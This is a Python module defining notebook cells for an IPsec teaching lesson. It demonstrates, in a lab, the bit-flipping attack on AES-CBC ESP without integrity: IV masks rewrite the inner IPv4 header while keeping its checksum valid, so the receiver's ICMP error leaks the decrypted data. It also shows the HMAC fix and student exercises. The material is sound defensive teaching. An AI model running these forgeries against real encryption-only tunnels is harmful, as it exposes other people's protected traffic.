"""Lesson 08b, encryption without integrity: flipping bits of AES-CBC's IV rewrites the
inner IPv4 header (RFC 3602 §2, RFC 1624); the attack in the lab and the fix, an ICV.
"""

from __future__ import annotations

from .attack_cells import IP_PACKETS, ROOT_CHECK, scope
from .cells import SETUP_INLINE, code, md

CELLS = [
    md("""
    # 08b: Encryption without integrity: flipping bits in CBC

    **Learning goals.** After this lesson you can

    * explain why AES-CBC without an ICV lets anyone who flips bits of the IV flip the same
      bits of the first plaintext block (RFC 3602 §2), and why RFC 4303 §1 warns against
      "encryption-only" ESP;
    * compute the IV flips that rewrite an inner IPv4 header while its checksum stays valid
      (RFC 1624 arithmetic), without knowing the key or the checksum;
    * run the attack of Degabriele and Paterson ("Attacking the IPsec Standards in
      Encryption-only Configurations", IEEE S&P 2007; after Bellovin 1996 and Paterson and
      Yau, Eurocrypt 2006) in the lab: h2 itself sends the decrypted secret to mallory;
    * apply the fix (an ICV) and read `auth_failed` in gw2's counters.
    """),
    scope("mallory, the router between the sites, rewrites an ESP packet from gw1 to gw2."),
    SETUP_INLINE,
    ROOT_CHECK,
    md("""
    ## The weak configuration

    `enc 'cbc(aes)'` and no `auth`: confidentiality without integrity. ipseclab refuses such
    an SA unless the file says `# ipseclab: insecure`. gw2's inbound policy accepts traffic
    from any source (`src 0.0.0.0/0`) towards its LAN, as for a peer that routes other
    networks through the tunnel.
    """),
    code("""
    from ipseclab.attacks.common import config_dir

    print((config_dir("bitflip", "weak") / "gw2.xfrm").read_text())
    """),
    md("""
    ## CBC's first block

    CBC decrypts the first ciphertext block C1 as **P1 = D_K(C1) XOR IV** (RFC 3602 §2), and
    the IV travels in the clear in front of C1 (RFC 4303 §2.3). Whoever XORs a value into the
    IV XORs the same value into P1, and changes nothing else: C1 is untouched, so D_K(C1) is
    the same. Without an ICV nobody notices.

    In tunnel mode P1 is the first 16 bytes of the inner IPv4 header. We build h1's packet as
    gw1 forwards it (TTL 63 after one hop) and protect it with aes128 (CBC), no integrity.
    """),
    code("""
    from ipseclab.attacks import bitflip, inet
    from ipseclab.ipsec import esp, ip
    from ipseclab.teaching.demo import demo_pair, demo_sa, udp_packet

    inner = udp_packet(bitflip.SECRET, src="10.1.0.10", dst="10.2.0.10", sport=40000,
                       dport=bitflip.PORT, ttl=63)
    tx, rx = demo_pair("aes128", "tunnel")
    wire = esp.encapsulate(tx, inner)
    IV = slice(28, 44)  # outer header 20, SPI and sequence number 8, then the 16-byte IV
    print("IV:", wire[IV].hex(" "))
    print("C1:", wire[44:60].hex(" "))

    FIELDS = ["version/IHL", "TOS", "total length", "total length", "identification",
              "identification", "flags/offset", "flags/offset", "TTL", "protocol",
              "checksum", "checksum", "source", "source", "source", "source"]
    print("\\nP1, the first block of plaintext:")
    for i, b in enumerate(inner[:16]):
        print(f"  byte {i:2}  {FIELDS[i]:<15} {b:3}  0x{b:02x}")
    """),
    md("""
    ## The plan: new source, new protocol, same checksum

    Mallory knows what gw1 forwards: the TTL (63), the protocol (17, UDP) and h1's address.
    It wants h2 to answer the packet with an ICMP error that quotes it, sent to an address
    mallory can see: a source in 192.0.2.0/24 (behind mallory), and a protocol h2 does not
    speak, so that h2 replies "protocol unreachable" (RFC 792, RFC 1812 §4.3.2.3).

    The header checksum sits in P1 too, but mallory cannot see it. It does not need to: the
    checksum is the complement of the one's-complement sum of the 16-bit words (RFC 1071).
    If the sum of the changed words (word 4: TTL and protocol; words 6 and 7: the source)
    stays the same, the old checksum is still right (RFC 1624). `plan_redirect` picks the
    source in 192.0.2.0/24 and the TTL and protocol that pay for it.
    """),
    code("""
    plan = bitflip.plan_redirect(63, 17, "10.1.0.10")
    delta = inet.xor(plan.known, plan.wanted)
    print(f"{'byte':>4}  {'field':<10} {'old':>4} {'new':>4}   XOR into the IV")
    for i in range(16):
        if delta[i]:
            print(f"{i:>4}  {FIELDS[i]:<10} {plan.known[i]:>4} {plan.wanted[i]:>4}",
                  f"  {delta[i]:08b}")

    old_words = plan.known[8:10] + plan.known[12:16]
    new_words = plan.wanted[8:10] + plan.wanted[12:16]
    print("\\nwords 4, 6, 7 before:", old_words.hex(" "), "sum", hex(inet.ones_sum(old_words)))
    print("words 4, 6, 7 after: ", new_words.hex(" "), "sum", hex(inet.ones_sum(new_words)))
    assert inet.ones_sum(old_words) == inet.ones_sum(new_words)
    """),
    md("""
    Each row's bit pattern is exactly what mallory XORs into the same byte of the IV. Now
    the forgery, and what the receiving SA (no integrity) makes of it:
    """),
    code("""
    forged = bitflip.forge(wire, plan)
    print("IV before:", wire[IV].hex(" "))
    print("IV after: ", forged[IV].hex(" "))
    print("XOR:      ", inet.xor(wire[IV], forged[IV]).hex(" "))
    print("everything after the IV unchanged:", forged[44:] == wire[44:])

    result = esp.decapsulate(rx, forged)
    got = result.inner
    print("\\nverdict", result.status, "| source", ip.parse_header(got).src, "| protocol",
          got[9], "| TTL", got[8], "| header checksum still valid:", inet.ipv4_header_ok(got[:20]))
    print("the message behind the headers is intact:", got[28:] == bitflip.SECRET)
    assert str(result.status) == "ok" and inet.ipv4_header_ok(got[:20])
    """),
    md("""
    The same forgery against an SA with an ICV (aes128-sha256, HMAC-SHA-256-128): the ICV
    covers the IV (RFC 4303 §3.3.2), the receiver checks it before decrypting (§3.4.4), and
    the packet is dropped.
    """),
    code("""
    tx2, rx2 = demo_pair("aes128-sha256", "tunnel")
    verdict = esp.decapsulate(rx2, bitflip.forge(esp.encapsulate(tx2, inner), plan))
    print(verdict.status, "| counters:", rx2.counters)
    assert str(verdict.status) == "auth_failed"
    """),
    md("""
    ## The attack in the lab (root)

    `bitflip.run(lab, config="weak")`: mallory stops forwarding and holds back h1's ESP
    packet, flips the IV as planned, and injects the forgery towards gw2. gw2 decrypts it
    (no ICV to check), the inner policy allows any source, h2 gets a packet of protocol
    254 from a 192.0.2.x address and answers "protocol unreachable", quoting what it got.
    That ICMP error leaves site 2 in the clear (it matches no IPsec policy) and passes
    mallory. We capture both WAN links to see the original, the forgery and the answer.
    """),
    IP_PACKETS,
    code("""
    from ipseclab.attacks.common import attack_lab, total

    if ROOT:
        with attack_lab("bitflip", "weak") as lab:
            with lab.capture("wan1") as before, lab.capture("wan2") as after:
                weak = bitflip.run(lab, config="weak")
            original, forgery = ip_packets(before, 50)[0], ip_packets(after, 50)[0]
            icmp = ip_packets(after, 1)
        print(weak.report())
        print("\\nIV from gw1:     ", original[IV].hex(" "))
        print("IV to gw2:       ", forgery[IV].hex(" "))
        print("XOR:             ", inet.xor(original[IV], forgery[IV]).hex(" "))
        assert inet.xor(original[IV], forgery[IV]) == delta
        error = icmp[0]
        print(f"\\nh2's answer: ICMP type {error[20]} code {error[21]} from",
              ip.parse_header(error).src, "to", ip.parse_header(error).dst)
        print("it quotes:", inet.printable(error[28 + 28:]))
        assert weak.succeeded
    else:
        print(NOT_ROOT)
    """),
    md("""
    The XOR of the two IVs on the wire is, bit for bit, the plan above. The ICMP error
    (type 3 "destination unreachable", code 2 "protocol unreachable") carries the forged
    header (20 bytes), the UDP header (8) and then the decrypted message.

    The lab keys are public, so we can check from outside what gw2 saw, by decrypting the
    captured original and forgery with gw2's inbound SA (a fresh copy for each: they carry
    the same sequence number).
    """),
    code("""
    from ipseclab.config import xfrm

    if ROOT:
        for name, packet in (("original", original), ("forgery", forgery)):
            sa = xfrm.load(config_dir("bitflip", "weak") / "gw2.xfrm").states[0]
            seen_by_gw2 = esp.decapsulate(sa, packet).inner
            print(f"{name:>8}: first block {seen_by_gw2[:16].hex(' ')}",
                  "| checksum ok:", inet.ipv4_header_ok(seen_by_gw2[:20]))
    else:
        print(NOT_ROOT)
    """),
    md("""
    ## The fix: integrity (aes128-sha256)

    The recommended configuration adds HMAC-SHA-256-128. The same forgery now fails the ICV
    check and gw2 counts it:
    """),
    code("""
    if ROOT:
        with attack_lab("bitflip", "recommended") as lab:
            fixed = bitflip.run(lab, config="recommended")
        print(fixed.report())
        assert not fixed.succeeded and total(fixed.counters, "auth_failed") == 1
    else:
        print(NOT_ROOT)
    """),
    md("""
    `auth_failed 1`: gw2 dropped the forgery before decrypting it, h2 never saw it, no ICMP
    error came back. (A narrower inbound policy, `src 10.1.0.0/24`, would limit which sources
    mallory can forge, RFC 4301 §5.2, but not the bit flips themselves.)

    ## Your turn 1: TTL minus one

    Which byte of the IV must mallory change, and with which XOR mask, to turn the inner TTL
    63 into 62? Then look at the result: does the header checksum still verify?
    """),
    code("""
    my_byte = 8  # your answer: the index of the TTL in P1
    my_mask = 63 ^ 62  # your answer
    my_checksum_ok = False  # your answer: still valid after this change alone?
    """),
    code("""
    flipped = bytearray(wire)
    flipped[IV.start + my_byte] ^= my_mask
    out = esp.decapsulate(demo_sa("aes128", "tunnel"), bytes(flipped)).inner
    assert out[8] == 62, f"the TTL is now {out[8]}"
    assert my_checksum_ok == inet.ipv4_header_ok(out[:20])
    print("correct: TTL 62; the checksum no longer verifies, so h2's kernel would drop it")
    """),
    md("""
    ## Your turn 2: pay for it

    TTL 63 -> 62 lowers word 4 (TTL, protocol) by 0x0100. Raise another word by 0x0100 and
    the sum is the same again. Mallory knows the source address 10.1.0.10 (word 6 is 0x0a01).
    Which source address results if it raises word 6 by 0x0100?
    """),
    code("""
    my_source = "11.1.0.10"  # your answer
    """),
    code("""
    known = bytes(8) + bytes([63, 17]) + bytes(2) + ip.as_address("10.1.0.10").packed
    wanted = bytes(8) + bytes([62, 17]) + bytes(2) + ip.as_address(my_source).packed
    new_iv = inet.flip_iv(wire[IV], known, wanted)
    out = esp.decapsulate(demo_sa("aes128", "tunnel"), wire[:28] + new_iv + wire[44:]).inner
    assert inet.ipv4_header_ok(out[:20]), "the checksum does not verify: the sum changed"
    assert str(ip.parse_header(out).src) == my_source and out[8] == 62
    print("correct: TTL 62 from", my_source, "and the old checksum is right")
    """),
    md("""
    ## Summary

    * CBC without an ICV is malleable: P1 = D_K(C1) XOR IV, and the IV is in the clear. An
      attacker flips any bit of the first block by flipping the same bit of the IV (RFC 3602
      §2); in tunnel mode that block is the inner IP header.
    * Keeping the one's-complement sum (RFC 1624) keeps the unseen checksum valid; the
      receiver's own error messages (ICMP, RFC 792) then carry the decrypted data out
      (Degabriele and Paterson 2007).
    * The fix is integrity: an ICV over the whole ESP packet, IV included (aes128-sha256 or
      an AEAD like aes128gcm16). The forgery becomes an `auth_failed` at the receiver.
      RFC 8221 §4 ("Encryption Must Be Authenticated") rules encryption-only ESP out.
    """),
]
